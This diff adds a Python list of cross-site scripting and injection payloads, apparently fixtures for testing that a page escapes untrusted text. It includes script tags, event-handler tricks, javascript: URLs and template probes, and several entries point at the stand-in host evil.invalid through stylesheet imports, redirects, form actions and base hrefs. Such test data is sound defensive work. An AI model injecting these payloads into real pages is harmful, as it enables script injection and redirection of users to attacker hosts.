@@ -1,0 +1,26 @@
+"""Texts that try to become markup, script or a request in whatever page shows them."""
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "</script><script>alert(2)</script>",
+    "<img src=x onerror=alert(3)>",
+    '"><svg onload=alert(4)>',
+    "<a href='javascript:alert(5)'>link</a>",
+    "javascript:alert(6)",
+    "{{ 7 * 7 }}{% include 'page.css' %}${alert(7)}",
+    '"};alert(8);//',
+    "\\u003cscript\\u003ealert(9)\\u003c/script\\u003e",
+    "<!--<script>alert(10)//-->",
+    "\u202e<script>\u200balert(11)\u2066\u202c</scr\u200bipt>",
+    "<iframe srcdoc='<script>parent.alert(12)</script>'></iframe>",
+    "<style>@import 'http://evil.invalid/x.css'; body { background: url(http://evil.invalid/y) }</style>",
+    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
+    "<form action=http://evil.invalid><button autofocus onfocus=alert(15)>x</button></form>",
+    "' onmouseover='alert(16)' style='position:fixed;inset:0",
+    "<details open ontoggle=alert(17)>",
+    "<base href='http://evil.invalid/'><link rel=stylesheet href=z.css>",
+    "\x00\x1b[2J\x07<math><mi xlink:href='javascript:alert(19)'>",
+    "__proto__",
+    "]]><script>alert(21)</script>&lt;script&gt;alert(21)&lt;/script&gt;",
+    "#browse?id=<img src=x onerror=alert(22)>&category=%3Cscript%3E",
+]
